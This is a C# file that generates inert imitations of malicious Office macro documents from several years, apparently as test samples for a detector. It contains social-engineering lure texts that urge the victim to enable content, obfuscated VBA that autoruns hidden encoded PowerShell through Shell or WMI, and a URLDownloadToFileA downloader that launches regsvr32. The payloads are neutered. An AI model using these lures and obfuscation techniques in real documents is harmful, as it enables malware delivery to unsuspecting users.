using System.Text;

namespace Sekisho.SampleMaker.Waves;

/// <summary>Macro documents in the manner of each year, inert: what they would run is a comment, where they would go is nowhere.</summary>
internal static class VbaSources
{
    /// <summary>"Red Dawn" (August 2020 to March 2023), and the lures before it.</summary>
    public static readonly IReadOnlyList<string> RedDawn =
    [
        "This document is protected\rPreviewing is not available for protected documents. You have to press \"ENABLE EDITING\" and \"ENABLE CONTENT\" buttons to preview this document.",
    ];

    private static readonly string[] Old =
    [
        "This document is only available for desktop or laptop versions of Microsoft Office Word. To open the document follow this steps: Click Enable editing button from the yellow bar above. Once you have enabled editing, please click Enable content button from the yellow bar above.",
        "Operation did not complete successfully because the file was created on iOS device. To view or edit this document, please click \"Enable Editing\" button and then click \"Enable Content\".",
        "You are attempting to open a file that was created in an earlier version of Microsoft Office. If the file opens in Protected View, click Enable Editing, and then click Enable Content.",
        "This document was created in OpenOffice. To view this content, please click \"Enable Editing\" at the top yellow bar, and then click \"Enable Content\".",
        "このドキュメントは保護されています\r編集を有効にする をクリックし、次に コンテンツの有効化 をクリックしてください。",
    ];

    /// <summary>May 2018: dead code about a call of Shell with a string of many pieces.</summary>
    public static MacroSample Year2018(Chance c)
    {
        var names = Names(c, 8);
        var command = "cmd /V:ON /c set x=" + PowerShell(c) + "&&echo inert";
        var third = command.Length / 3;
        var functions = new[] { command[..third], command[third..(2 * third)], command[(2 * third)..] }
            .Select((piece, i) => $"Function {names[i]}()\r\nOn Error Resume Next\r\n{VbaJunk.Many(c, c.Number(3, 6), VbaJunk.Dead)}{names[i]} = {VbaJunk.Pieces(c, piece)}\r\n{VbaJunk.Many(c, c.Number(2, 4), VbaJunk.Dead)}End Function\r\n");
        var start = $"Sub AutoOpen()\r\nOn Error Resume Next\r\n{VbaJunk.Many(c, 2, VbaJunk.Dead)}{names[3]} {names[0]} + {names[1]} + {names[2]}\r\nEnd Sub\r\n";
        var run = $"Sub {names[3]}({names[4]})\r\n{VbaJunk.Many(c, 2, VbaJunk.Dead)}{c.Pick("Interaction.Shell!", "VBA.Shell", "Shell")} {names[4]}, {c.Pick("0", "vbHide", "CInt(0)")}\r\nEnd Sub\r\n";
        return Sample(c, [new("ThisDocument", "", [start]), new(names[5], "", [.. functions]), new(names[6], "", [run])], names) with { Shown = c.Percent(50) ? c.Pick(Old) : "" };
    }

    /// <summary>June 2019: many modules, Select Case, a form that keeps the command.</summary>
    public static MacroSample June2019(Chance c)
    {
        var names = Names(c, 14);
        var (box, other) = (names[9], names[10]);
        var modules = new List<MacroModule>
        {
            new("ThisDocument", "", [$"Sub {c.Pick("autoopen", "AutoOpen", "Document_Open")}()\r\nOn Error Resume Next\r\n{VbaJunk.SelectCase(c)}{names[0]}\r\nEnd Sub\r\n"]),
            new(names[11], "", [
                $"Function {names[0]}()\r\nOn Error Resume Next\r\n{VbaJunk.Many(c, 2, VbaJunk.SelectCase)}Set {names[1]} = CreateObject({names[2]})\r\n{names[1]}.{c.Pick("Create", "Run")}# {names[3]}, {names[4]}, {names[5]}\r\n{VbaJunk.SelectCase(c)}End Function\r\n",
                $"Function {names[2]}()\r\n{VbaJunk.SelectCase(c)}{names[2]} = {VbaJunk.Pieces(c, "winmgmts:Win32_Process")}\r\nEnd Function\r\n",
                $"Function {names[3]}()\r\n{VbaJunk.SelectCase(c)}{names[3]} = UserForm1.{box}.Tag + UserForm1.{other}\r\n{(c.Percent(50) ? $"Shell {names[3]}, 0\r\n" : "")}End Function\r\n",
            ]),
        };
        for (var i = 0; i < c.Number(3, 6); i++)
        {
            modules.Add(new MacroModule(c.Name() + i, "", [$"Function {c.Name()}()\r\nOn Error Resume Next\r\n{VbaJunk.Many(c, 2, VbaJunk.SelectCase)}End Function\r\n"]));
        }

        var command = PowerShell(c);
        var half = command.Length / 2;
        return Sample(c, modules, names) with { Boxes = [(box, command[..half], "", ""), (other, "", command[half..], c.Code(6))], Picture = Picture(c), Shown = c.Percent(30) ? c.Pick(Old) : "" };
    }

    /// <summary>September 2019: comments of a word machine, loops over no revisions, WMI without its name in sight.</summary>
    public static MacroSample September2019(Chance c)
    {
        var names = Names(c, 12);
        var separator = c.Pick("@", "~", "#", "\"&\"") is "\"&\"" ? c.Letters(3) : c.Pick("@#", "~!", "{{");
        string[] procedures =
        [
            $"Sub {c.Pick("autoopen", "AutoOpen", "Document_Open")}()\r\n{VbaJunk.While(c)}{names[0]}\r\nEnd Sub\r\n",
            $"Function {names[0]}()\r\n{VbaJunk.While(c)}Set {names[1]} = CreateObject({names[2]}(\"{VbaJunk.Strewn(c, "winmgmts:Win32_Process", separator)}\"))\r\nSet {names[3]} = CreateObject({names[2]}(\"{VbaJunk.Strewn(c, "winmgmts:Win32_ProcessStartup", separator)}\"))\r\n"
                + $"{names[3]}.ShowWindow = {c.Number(1, 9)} - {c.Number(1, 9)}\r\n{VbaJunk.While(c)}{names[1]}.Create {names[4]}, {names[5]}, {names[3]}\r\nEnd Function\r\n",
            $"Function {names[2]}({names[6]})\r\n{VbaJunk.While(c)}{names[2]} = Replace({names[6]}, \"{separator}\", \"\")\r\nEnd Function\r\n",
            $"Function {names[4]}()\r\n{VbaJunk.While(c)}{names[4]} = \"pow\" + {names[2]}(\"{VbaJunk.Strewn(c, "ershell -e ", separator)}\" + UserForm1.{names[7]}.Tag)\r\nEnd Function\r\n",
        ];
        return Sample(c, [new("ThisDocument", "", procedures[..1]), new(names[8], "", procedures[1..])], names) with
        {
            Boxes = [(names[7], VbaJunk.Strewn(c, Encoded(c), separator), "", "")],
            Picture = Picture(c),
            Shown = c.Percent(40) ? c.Pick(Old) : "",
        };
    }

    /// <summary>January to October 2020: Document_open, GetObject of a joined string, payload in tags and group names.</summary>
    /// <param name="c">Chance.</param>
    /// <param name="shown">What the document says.</param>
    public static MacroSample Year2020(Chance c, string shown)
    {
        var names = Names(c, 14);
        var separator = c.Pick("]b2[s", "J)(3s2)(", "aqq", "x [ sh b", "==~=") + c.Digits(1);
        var strewn = VbaJunk.Strewn(c, "winmgmts:Win32_Process", separator);
        string[] procedures =
        [
            $"Sub {names[0]}()\r\n{VbaJunk.Many(c, 2, VbaJunk.Loop)}   {names[1]} = {names[2]}(\"{strewn}\")\r\n{VbaJunk.SelectCase(c)}   Set {names[3]} = {c.Pick("GetObject", "CreateObject")}({names[1]})\r\n   Set {names[4]} = GetObject({names[2]}(\"{strewn}\") + {names[2]}(\"{VbaJunk.Strewn(c, "Startup", separator)}\"))\r\n"
                + $"   {names[4]}.ShowWindow = {c.Pick("XlFormatCondition", "Len(\"\")", "wdKeyA - 65", "0")}\r\n{VbaJunk.Many(c, 2, VbaJunk.SelectCase)}   {names[3]}.Create {names[5]}, {names[6]}, {names[4]}\r\nEnd Sub\r\n",
            $"Function {names[2]}({names[7]})\r\n{VbaJunk.Loop(c)}   {names[8]} = Split({names[7]}, \"{separator}\")\r\n   {names[2]} = Join({names[8]}, \"\")\r\n{VbaJunk.SelectCase(c)}End Function\r\n",
            $"Function {names[5]}()\r\n{VbaJunk.Many(c, 2, VbaJunk.SelectCase)}   {names[5]} = ChrW(wdKeyP) + {names[2]}(UserForm1.{names[9]}.{c.Pick("Tag", "GroupName")} + UserForm1.{names[10]}.Tag)\r\nEnd Function\r\n",
        ];
        var payload = VbaJunk.Strewn(c, "owershell -w hidden -en " + Encoded(c), separator);
        var half = payload.Length / 2;
        return Sample(c, [new("ThisDocument", "", [$"Private Sub Document_{c.Pick("open", "Open")}()\r\n{names[0]}\r\nEnd Sub\r\n"]), new(names[11], "", procedures)], names) with
        {
            Boxes = [(names[9], payload[..half], "", payload[..half]), (names[10], payload[half..], "", "")],
            Picture = Picture(c),
            Shown = shown,
        };
    }

    /// <summary>November 2021: a long PowerShell line with seven addresses, started by Shell from a document or a workbook.</summary>
    public static MacroSample November2021(Chance c, bool isWorkbook, string shown)
    {
        var names = Names(c, 10);
        var addresses = string.Join(',', Enumerable.Range(0, 7).Select(_ => Addresses.Dropped(c)));
        var (variable, list) = (c.Letters(4), c.Letters(4));
        var script = $"powershell ${variable}=\"${list}=\\\"{addresses}\\\".Split(\\\",\\\");foreach($st in ${list}){{#inert: nothing is fetched, nothing is run}}\";IEX ${variable}";
        var quarter = script.Length / 4;
        var pieces = Enumerable.Range(0, 4).Select(i => $"Function {names[i]}() As String\r\n   {names[i]} = {VbaJunk.Pieces(c, i < 3 ? script.Substring(i * quarter, quarter) : script[(3 * quarter)..])}\r\nEnd Function\r\n");
        var start = isWorkbook ? "Private Sub Workbook_Open()" : c.Pick("Sub AutoOpen()", "Private Sub Document_Open()");
        return Sample(c, [
            new(isWorkbook ? "ThisWorkbook" : "ThisDocument", "", [$"{start}\r\n   {names[4]}\r\nEnd Sub\r\n"]),
            new(names[5], $"Dim {names[6]} As String\r\n", [.. pieces, $"Sub {names[4]}()\r\n   {names[6]} = {names[0]} & {names[1]} & {names[2]} & {names[3]}\r\n   {VbaJunk.Many(c, 2, VbaJunk.Dead)}   Shell {names[6]}, vbHide\r\nEnd Sub\r\n"]),
        ], names) with { Picture = Picture(c), Shown = shown };
    }

    /// <summary>March 2023: a downloader with declares in a document of half a gigabyte; lines of an old novel in white.</summary>
    public static MacroSample March2023(Chance c)
    {
        var names = Names(c, 10);
        var number = c.Digits(6);
        var declare = $"Private Declare PtrSafe Function {names[0]} Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a As LongPtr, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long\r\n";
        var addresses = Enumerable.Range(0, 7).Select(_ => $"{Addresses.Dropped(c)}?{number}");
        string[] procedures =
        [
            $"Sub AutoOpen()\r\n   {names[1]}\r\nEnd Sub\r\n",
            $"Sub {names[1]}()\r\n   On Error Resume Next\r\n   {VbaJunk.Many(c, 2, VbaJunk.Dead)}   For Each {names[2]} In {names[3]}()\r\n      If {names[0]}(0, {names[2]}, Environ(\"TEMP\") & \"\\{number}.tmp\", 0, 0) = 0 Then {names[4]} \"%TEMP%\\{number}.tmp\": Exit For\r\n   Next\r\nEnd Sub\r\n",
            $"Function {names[3]}()\r\n   {names[3]} = Split(\"{string.Join('|', addresses)}\", \"|\")\r\nEnd Function\r\n",
            $"Sub {names[4]}({names[5]})\r\n   Set {names[6]} = CreateObject({VbaJunk.Pieces(c, "WScript.Shell")})\r\n   {names[6]}.Run {VbaJunk.Pieces(c, "regsvr32.exe /s ")} & {names[5]}, 0\r\nEnd Sub\r\n",
        ];
        var novel = string.Join(' ', Enumerable.Range(0, 300).Select(_ => c.Pick("whale", "ship", "sea", "captain", "the", "of", "white", "harpoon", "and", "old", "mast", "deck", c.Word())));
        return Sample(c, [new("ThisDocument", declare, procedures)], names) with { Picture = Picture(c), Shown = RedDawn[0] + "\r" + novel };
    }

    /// <summary>A lure of the years before "Red Dawn".</summary>
    public static string OldLure(Chance c) => c.Pick(Old);

    private static MacroSample Sample(Chance c, IReadOnlyList<MacroModule> modules, IReadOnlyList<string> names) =>
        new([.. modules.Select(m => m with { Head = m.Head + (c.Percent(20) ? "Option Explicit\r\n" : "") })], names);

    private static string[] Names(Chance c, int count)
    {
        var names = new HashSet<string>(StringComparer.OrdinalIgnoreCase);
        while (names.Count < count)
        {
            names.Add(c.Name());
        }

        return [.. names];
    }

    private static string PowerShell(Chance c) => c.Pick("powershell -e ", "powershell -enco ", "PoWeRsHeLl -w hidden -en ") + Encoded(c);

    /// <summary>What follows <c>-enc</c>: UTF-16 in base64, which begins as the originals did and goes on as a comment.</summary>
    private static string Encoded(Chance c) =>
        Convert.ToBase64String(Encoding.Unicode.GetBytes($"$env:userprofile#inert sample: {string.Join('*', Enumerable.Range(0, 5).Select(_ => Addresses.Dropped(c)))}"));

    /// <summary>The head of a PNG and noise: what shows the lure in most documents is a picture.</summary>
    private static byte[] Picture(Chance c) => [0x89, .. "PNG\r\n\u001a\n"u8, 0, 0, 0, 13, .. "IHDR"u8, .. c.Octets(c.Number(3000, 8000))];
}
